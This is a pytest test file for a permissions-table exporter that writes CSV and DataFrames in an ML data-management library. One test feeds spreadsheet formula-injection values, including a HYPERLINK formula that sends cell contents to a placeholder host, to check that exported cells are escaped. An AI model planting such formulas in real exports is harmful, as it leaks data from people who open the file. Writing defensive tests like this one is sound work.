"""The table of who may do what."""

from __future__ import annotations

import csv
import io
import os
import pickle
import subprocess
import sys
from pathlib import Path

import attrs
import pytest
from mlsteward import errors
from mlsteward.matrix import AccessMatrix
from mlsteward.records import (
    AccessEntry,
    AccessObjectType,
    AccessRule,
    AccountKind,
    DatasetPermission,
    ProjectRole,
)

from tests.facade_support import Team, fresh

HEADER = "object_type,object_id,object_name,user_id,username,kind,role,rule,group"


def entry(**fields: object) -> AccessEntry:
    known = {
        "object_type": AccessObjectType.DATASET,
        "object_id": "d1",
        "object_name": "signs",
        "user_id": "u1",
        "username": "jackie",
        "kind": AccountKind.USER,
        "rule": AccessRule.GROUP_GRANT,
        "role": DatasetPermission.EDIT,
        "group": "labelers",
    }
    return AccessEntry(**known | fields)  # type: ignore[arg-type]


NONE = {"role": None, "rule": AccessRule.NONE, "group": None}
IN_PROJECT = {"object_type": AccessObjectType.PROJECT, "object_id": "p1", "object_name": "signs", "group": None}
ROBOT = {"user_id": "u2", "username": "ci@ml-team", "kind": AccountKind.SERVICE_ACCOUNT}
MATRIX = AccessMatrix(
    (
        entry(),
        entry(**ROBOT, rule=AccessRule.DEFAULT, role=DatasetPermission.NO_ACCESS, group=None),
        entry(**IN_PROJECT | {"role": ProjectRole.OWNER, "rule": AccessRule.ROSTER}),
        entry(**IN_PROJECT | ROBOT | NONE),
    )
)
LONG = f"""\
{HEADER}
dataset,d1,signs,u1,jackie,user,EDIT,group_grant,labelers
dataset,d1,signs,u2,ci@ml-team,service_account,NO_ACCESS,default,
project,p1,signs,u1,jackie,user,owner,roster,
project,p1,signs,u2,ci@ml-team,service_account,,none,
"""
WIDE = """\
user_id,username,kind,dataset:signs,project:signs
u2,ci@ml-team,service_account,NO_ACCESS,
u1,jackie,user,EDIT,owner
"""


def test_of_a_workspace(team: Team) -> None:
    admin, jackie, guest = team.admin.steward, team.person(), team.person("guest")
    dataset = admin.datasets.create(fresh("signs"), workspace=team.workspace, default_permission="VIEW")
    project = team.project(visibility="workspace").partition("/")[2]
    matrix = admin.access.matrix(workspace=team.workspace)
    assert list(matrix) == list(matrix.entries) == admin.access.list(workspace=team.workspace).to_list()
    assert len(matrix) == 6
    assert matrix == admin.access.matrix()
    long = list(csv.DictReader(io.StringIO(matrix.to_csv())))
    assert [(row["object_id"], row["username"]) for row in long] == [(e.object_id, e.username) for e in matrix]
    wide = {row["username"]: row for row in csv.DictReader(io.StringIO(matrix.to_csv(wide=True)))}
    assert {name: (row[f"dataset:{dataset.name}"], row[f"project:{project}"]) for name, row in wide.items()} == {
        team.admin.username: ("MANAGE", "owner"),
        jackie.username: ("VIEW", "owner"),
        guest.username: ("NO_ACCESS", ""),
    }


def test_of_one_account_or_one_thing(team: Team) -> None:
    admin, jackie = team.admin.steward, team.person()
    dataset = admin.datasets.create(fresh("signs"), workspace=team.workspace)
    project = team.project()
    for wanted in ({"user": jackie.username}, {"dataset": dataset.full_name}, {"project": project}):
        matrix = admin.access.matrix(**wanted)
        assert list(matrix) == admin.access.list(**wanted).to_list()
        assert len(matrix) == 2


def test_more_than_a_page(team: Team) -> None:
    admin = team.admin.steward
    for _ in range(26):
        admin.datasets.create(fresh("signs"), workspace=team.workspace)
    people = [team.operator.members.add(fresh("p"), workspace=team.workspace) for _ in range(19)]
    matrix = admin.access.matrix(workspace=team.workspace)
    assert len(matrix) == 26 * (len(people) + 1) > 500
    assert len({(found.object_id, found.user_id) for found in matrix}) == len(matrix)
    assert len(matrix.to_csv(wide=True).splitlines()) == 1 + len(people) + 1


def test_csv() -> None:
    assert MATRIX.to_csv() == LONG
    assert MATRIX.to_csv(wide=True) == WIDE


def test_csv_into_a_file(tmp_path: Path) -> None:
    for number, path in enumerate((tmp_path / "a.csv", os.fspath(tmp_path / "b.csv"))):
        assert MATRIX.to_csv(path, wide=bool(number)) is None
        assert Path(path).read_bytes().decode() == (LONG, WIDE)[number]
    with open(tmp_path / "c.csv", "w", encoding="utf-8", newline="") as file:
        assert MATRIX.to_csv(file) is None
        # It is the caller's to close.
        file.write("more\n")
    assert (tmp_path / "c.csv").read_text() == LONG + "more\n"
    buffer = io.StringIO()
    MATRIX.to_csv(buffer, wide=True)
    assert buffer.getvalue() == WIDE


def test_csv_into_what_is_no_file() -> None:
    for wrong in (7, object(), ["a.csv"]):
        with pytest.raises(errors.InvalidArgument, match="file must be a path or an open file"):
            MATRIX.to_csv(wrong)  # type: ignore[call-overload]


def test_of_nothing() -> None:
    matrix = AccessMatrix(())
    assert len(matrix) == 0
    assert matrix.to_csv() == HEADER + "\n"
    assert matrix.to_csv(wide=True) == "user_id,username,kind\n"
    assert list(matrix.to_dataframe().columns) == HEADER.split(",")
    assert matrix.to_dataframe(wide=True).empty


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_cells_are_no_formulas(start: str) -> None:
    formula = start + 'HYPERLINK("https://x.example/?"&A1)'
    matrix = AccessMatrix((entry(object_type=formula, object_name=formula, username=formula, role=formula),))
    ((header, row), wide) = (list(csv.reader(io.StringIO(matrix.to_csv(wide=wide), newline=""))) for wide in (0, 1))
    found = dict(zip(header, row, strict=True))
    assert {found[name] for name in ("object_type", "object_name", "username", "role")} == {"'" + formula}
    assert wide[0][-1] == f"'{formula}:{formula}"
    assert wide[1] == ["u1", "'" + formula, "user", "'" + formula]
    # A DataFrame is data: what is done with it is up to the program.
    assert list(matrix.to_dataframe()["username"]) == [formula]


def test_cells_with_what_csv_is_made_of() -> None:
    name = 'a "b", c\nd'
    matrix = AccessMatrix((entry(group=name, object_name=name),))
    (row,) = csv.DictReader(io.StringIO(matrix.to_csv(), newline=""))
    assert (row["group"], row["object_name"]) == (name, name)


def test_a_dataframe() -> None:
    frame = MATRIX.to_dataframe()
    assert list(frame.columns) == HEADER.split(",")
    assert frame.shape == (4, 9)
    assert list(frame["role"]) == ["EDIT", "NO_ACCESS", "owner", None]
    assert list(frame["group"].isna()) == [False, True, True, True]
    # Texts, not members of enums.
    assert {type(value) for value in frame[["object_type", "kind", "rule"]].to_numpy().ravel()} == {str}
    assert list(frame[frame["role"] == "owner"]["username"]) == ["jackie"]


def test_a_wide_dataframe() -> None:
    frame = MATRIX.to_dataframe(wide=True)
    assert list(frame.columns) == ["user_id", "username", "kind", "dataset:signs", "project:signs"]
    assert frame.set_index("username")["dataset:signs"].to_dict() == {"ci@ml-team": "NO_ACCESS", "jackie": "EDIT"}
    assert frame.set_index("username")["project:signs"].to_dict() == {"ci@ml-team": "", "jackie": "owner"}


def test_things_of_one_name_have_a_column_each() -> None:
    # Names differ within a workspace; a server may list more than one.
    matrix = AccessMatrix((entry(), entry(object_id="d2", role=DatasetPermission.VIEW)))
    assert matrix.to_csv(wide=True) == ("user_id,username,kind,dataset:signs,dataset:signs\nu1,jackie,user,EDIT,VIEW\n")
    assert matrix.to_dataframe(wide=True).shape == (1, 5)


def test_a_matrix_is_a_value() -> None:
    assert pickle.loads(pickle.dumps(MATRIX)) == MATRIX
    assert hash(AccessMatrix(MATRIX.entries)) == hash(MATRIX)
    assert AccessMatrix(()) != MATRIX
    assert repr(MATRIX) == "<AccessMatrix of 4 entries>"
    with pytest.raises(attrs.exceptions.FrozenInstanceError):
        MATRIX.entries = ()  # type: ignore[misc]


WITHOUT = """
import sys

class Without:
    def find_spec(self, name, path=None, target=None):
        if name == "pandas":
            raise ModuleNotFoundError(f"No module named {name!r}", name=name)

sys.meta_path.insert(0, Without())
from mlsteward import Steward, errors
with Steward(path=":memory:") as steward:
    steward.workspaces.create("ml-team")
    steward.datasets.create("ml-team/signs")
    matrix = steward.access.matrix()
    print(len(matrix.to_csv().splitlines()))
    try:
        matrix.to_dataframe()
    except errors.ConfigurationError as error:
        print(error)
"""


def test_without_pandas(tmp_path: Path) -> None:
    done = subprocess.run(
        [sys.executable, "-W", "error", "-c", WITHOUT], capture_output=True, text=True, timeout=60, cwd=tmp_path
    )
    assert done.returncode == 0, done.stderr
    lines, refusal = done.stdout.splitlines()
    assert lines == "2"
    assert refusal == "A DataFrame needs pandas, which is not installed: pip install 'mlsteward[pandas]'."
